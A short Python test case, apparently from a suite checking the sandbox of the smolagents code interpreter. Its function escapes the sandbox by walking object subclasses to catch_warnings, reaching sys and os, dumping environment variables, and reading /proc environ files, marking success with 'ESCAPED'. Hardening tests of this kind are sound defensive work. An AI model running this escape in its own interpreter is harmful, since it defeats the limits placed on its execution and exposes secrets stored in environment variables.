# expect: done
# idea: reach sys through the module that warnings.catch_warnings remembers, then read the host's environment
# source: smolagents
def tick(ctx):
    for kind in ().__class__.__base__.__subclasses__():
        if kind.__name__ != "catch_warnings":
            continue
        module = kind()._module
        sys = module.sys
        os = sys.modules["os"]
        print("environment", sorted(os.environ.items()))
        for path in ("/proc/self/environ", f"/proc/{ctx.config['host']}/environ"):
            try:
                print("ESCAPED: read", os.read(os.open(path, os.O_RDONLY), 100_000))
            except Exception as error:
                print("refused:", error)
